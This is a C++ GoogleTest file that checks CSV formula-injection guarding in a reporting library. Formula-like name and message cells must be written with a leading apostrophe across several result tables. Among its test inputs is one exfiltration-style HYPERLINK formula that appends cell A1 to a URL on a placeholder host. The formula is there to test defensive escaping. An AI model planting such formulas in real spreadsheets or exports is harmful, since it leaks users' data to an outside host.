// Text cells of the result tables: a text that a spreadsheet would take for a formula is
// written so that it shows as text, in every table that carries a name or a message, and
// nothing else changes.
#include "report/csv.h"

#include <gtest/gtest.h>

#include <functional>
#include <string>

#include "report/spreadtable.h"
#include "report/standtable.h"

namespace lodra {
namespace {

// A text, and the cell a result table holds for it.
const struct {
    std::string text;
    std::string cell;
} kTexts[] = {
    {"=1+2", "\"'=1+2\""},
    {"=HYPERLINK(\"http://x/?x=\"&A1;\"klick\")",
     "\"'=HYPERLINK(\"\"http://x/?x=\"\"&A1;\"\"klick\"\")\""},
    {"+46 70", "\"'+46 70\""},
    {"-12,5", "\"'-12,5\""},  // a name, not a figure: text as any other
    {"@SUMMA(A1)", "\"'@SUMMA(A1)\""},
    {"\t=1+2", "\"'\t=1+2\""},
    {"\r\n=1+2", "\"'\r\n=1+2\""},
    // harmless: as typed, quoted where needed
    {"Skifte 7", "Skifte 7"},
    {"", ""},
    {"a=1+2", "a=1+2"},
    {" =1+2", " =1+2"},
    {"'=1+2", "'=1+2"},
    {"\n=1+2", "\"\n=1+2\""},
    {"Rad 2; \"Ek\"", "\"Rad 2; \"\"Ek\"\"\""},
    {"Körning 2: 5 % – stopp", "Körning 2: 5 % – stopp"},
};

TEST(CsvField, AFormulaShowsAsTextAndAnythingElseAsTyped) {
    for (const auto& c : kTexts) {
        SCOPED_TRACE(c.text);
        EXPECT_EQ(csvField(c.text), c.cell);
        if (c.cell.find('\'') == std::string::npos) {
            EXPECT_EQ(csvFieldAsTyped(c.text), c.cell);
        }
    }
    // The stand file's own quoting keeps a formula as it was typed.
    EXPECT_EQ(csvFieldAsTyped("=1+2"), "=1+2");
    EXPECT_EQ(csvFieldAsTyped("-12,5;x"), "\"-12,5;x\"");
}

TEST(CsvField, EveryTableWritesItsNameAndMessageCellsGuarded) {
    const struct {
        const char* table;
        std::function<std::string(const std::string&)> write;
        std::function<std::string(const std::string&)> bytes;  // of the cell
    } tables[] = {
        {"table, refused", [](const std::string& t) { return tableRefusedRow(4, t); },
         [](const std::string& c) { return "4" + std::string(22, ';') + c + "\r\n"; }},
        {"cycles, refused", [](const std::string& t) { return cyclesRefusedRow(5, t); },
         [](const std::string& c) { return "5" + std::string(14, ';') + c + "\r\n"; }},
        {"compare",
         [](const std::string& t) {
             ComparisonGrid grid;
             grid.stopped = t;
             return compareRow(6, grid, ',');
         },
         [](const std::string& c) { return "6" + std::string(49, ';') + c + "\r\n"; }},
        {"compare, refused", [](const std::string& t) { return compareRefusedRow(6, t); },
         [](const std::string& c) { return "6" + std::string(49, ';') + c + "\r\n"; }},
        {"spread",
         [](const std::string& t) {
             Spread spread;
             spread.firstStop = t;
             return spreadRow(7, spread, ',');
         },
         [](const std::string& c) { return "7;0;0" + std::string(28, ';') + c + "\r\n"; }},
        {"spread, refused", [](const std::string& t) { return spreadRefusedRow(7, t); },
         [](const std::string& c) { return "7" + std::string(30, ';') + c + "\r\n"; }},
        {"measures",
         [](const std::string& t) {
             MeasureComparison comparison;
             comparison.stopped = t;
             return measuresRow(8, comparison, '.');
         },
         [](const std::string& c) { return "8" + std::string(97, ';') + c + "\r\n"; }},
        {"measures, refused", [](const std::string& t) { return measuresRefusedRow(8, t); },
         [](const std::string& c) { return "8" + std::string(97, ';') + c + "\r\n"; }},
        {"name in two rows",
         [](const std::string& t) { return withName("9;-1,5;ja\r\n9;2;\r\n", t); },
         [](const std::string& c) { return "9;" + c + ";-1,5;ja\r\n9;" + c + ";2;\r\n"; }},
    };
    for (const auto& table : tables) {
        SCOPED_TRACE(table.table);
        for (const auto& c : kTexts) {
            SCOPED_TRACE(c.text);
            EXPECT_EQ(table.write(c.text), table.bytes(c.cell));
        }
    }
}

}  // namespace
}  // namespace lodra
